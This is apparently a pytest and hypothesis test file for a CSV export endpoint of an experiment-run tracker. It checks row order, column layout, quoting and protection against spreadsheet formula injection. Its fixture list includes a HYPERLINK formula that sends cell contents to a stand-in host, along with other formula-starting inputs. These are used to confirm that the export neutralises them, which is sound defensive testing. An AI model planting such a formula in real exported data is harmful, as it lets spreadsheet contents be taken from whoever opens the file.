"""``GET /api/v1/runs.csv``: the runs table's view as CSV -- the same rows, in the same order,
as ``/api/v1/runs`` with the same arguments, the table's columns, proper quoting, and no
cell a spreadsheet would run as a formula. On a real SQLite file and a real PostgreSQL
database."""

from __future__ import annotations

import csv
import io
from typing import Any

from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st

from tests.support.web import envelope
from tracker.rules.csv_cells import FORMULA_START, csv_cell, spreadsheet_safe

NASTY = ['=HYPERLINK("http://x/?"&A1)', "+1+2", "-2+3", "@SUM(A1)", 'a "quoted", name\nline 2']


def new_run(client: FlaskClient, **body: Any) -> dict[str, Any]:
    response = client.post("/api/v1/runs", json={"project": "p", **body})
    assert response.status_code == 201, response.json
    return response.json


def read_csv(client: FlaskClient, query: str) -> tuple[list[list[str]], Any]:
    response = client.get(f"/api/v1/runs.csv?{query}")
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="runs.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True)))), response


def test_csv_has_the_tables_rows_and_columns(client: FlaskClient) -> None:
    ids = []
    for i, name in enumerate(NASTY):
        config = {"opt": "-sgd" if i % 2 else "adam", "lr": 0.1 * (i + 1)}
        run = new_run(client, name=name, config=config, tags=["t", "=x"])
        loss = [-0.5, "NaN", "Infinity", "-Infinity", 2.0][i]
        posted = client.post(
            f"/api/v1/runs/{run['id']}/metrics",
            json={"records": [[0, 1_700_000_000_000, {"loss": loss}]]},
        )
        assert posted.status_code < 300, posted.json
        ids.append(run["id"])
    query = "sort=name&order=asc&limit=3&offset=1&config=opt,lr&metrics=loss,absent"
    rows, response = read_csv(client, query)
    table = client.get(f"/api/v1/runs?{query}").json
    assert rows[0] == [
        "id", "starred", "name", "status", "failure_class", "project", "tags", "started",
        "duration_s", "config.opt", "config.lr", "metrics.loss", "metrics.absent",
    ]  # fmt: skip
    assert [int(r[0]) for r in rows[1:]] == [r["id"] for r in table["runs"]]  # same rows, order
    assert len(rows) == 1 + 3 and response.headers["X-Total-Count"] == str(table["total"]) == "5"
    by_id = {int(r[0]): dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    for run in table["runs"]:
        got = by_id[run["id"]]
        assert got["name"] == spreadsheet_safe(run["name"])  # quoting kept the newline and comma
        assert got["tags"] == "t, =x"  # one cell: starts with a letter, so not prefixed
        assert got["config.opt"] == ("'-sgd" if run["config"]["opt"] == "-sgd" else "adam")
        assert float(got["config.lr"]) == run["config"]["lr"]
        assert got["metrics.absent"] == ""
        assert got["status"] == "running" and got["starred"] == "false"
    losses = {by_id[i]["metrics.loss"] for i in by_id}
    assert losses <= {"-0.5", "nan", "inf", "-inf", "2.0"}  # numbers stay numbers, '-' or not
    names = [r[2] for r in rows[1:]]
    assert all(not n.startswith(FORMULA_START) for n in names), names


def test_csv_of_a_bad_query_is_the_json_error(client: FlaskClient) -> None:
    response = client.get("/api/v1/runs.csv?q=config.lr >")
    assert response.status_code == 400
    assert envelope(response)["field"] == "q"
    assert client.get("/api/v1/runs.csv?limit=0").status_code == 400


def test_empty_view_is_a_header(client: FlaskClient) -> None:
    rows, _ = read_csv(client, "q=status == failed&metrics=loss")
    assert rows == [
        ["id", "starred", "name", "status", "failure_class", "project", "tags", "started",
         "duration_s", "metrics.loss"]
    ]  # fmt: skip


@given(st.text())
def test_no_text_cell_starts_a_formula(text: str) -> None:
    cell = csv_cell(text)
    assert not cell.startswith(FORMULA_START)
    assert cell == text or cell == "'" + text
    out = io.StringIO()
    csv.writer(out).writerow([cell, "next"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [cell, "next"]  # quoting round-trips


@given(st.one_of(st.floats(), st.integers(), st.booleans(), st.none()))
def test_numbers_are_never_prefixed(value: Any) -> None:
    cell = csv_cell(value)
    assert not cell.startswith("'")
    if isinstance(value, float) and value == value and value not in (float("inf"), float("-inf")):
        assert float(cell) == value
